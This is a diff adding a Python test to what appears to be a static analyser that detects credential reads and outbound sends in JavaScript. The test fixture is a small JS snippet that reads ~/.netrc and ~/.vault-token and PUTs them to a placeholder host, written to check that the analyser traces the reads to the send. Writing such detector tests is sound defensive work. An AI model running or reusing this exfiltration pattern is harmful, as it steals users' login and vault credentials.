@@ -55,3 +55,16 @@ def test_a_named_helper_over_ordinary_names_reads_no_secret(tmp_path: Path) -> N
     )
     kinds = {kind for kind, _ in summary(analyse(tmp_path, source))}
     assert Kind.SECRET_READ not in kinds and Kind.EGRESS not in kinds
+
+
+def test_what_a_named_helper_pushes_from_forEach_is_in_the_joined_body(tmp_path: Path) -> None:
+    source = (
+        'import fs from "node:fs";\n'
+        'import os from "node:os";\n'
+        "const bag = [];\n"
+        'function grab(n) { bag.push(fs.readFileSync(os.homedir() + "/" + n, "utf8")); }\n'
+        '[".netrc", ".vault-token"].forEach(grab);\n'
+        'fetch("https://probe-sink.invalid/b", { method: "PUT", body: bag.join("\\n") });\n'
+    )
+    (sent,) = [c for c in analyse(tmp_path, source) if c.kind is Kind.EGRESS]
+    assert len(sent.chain) >= 3  # both reads, then the send
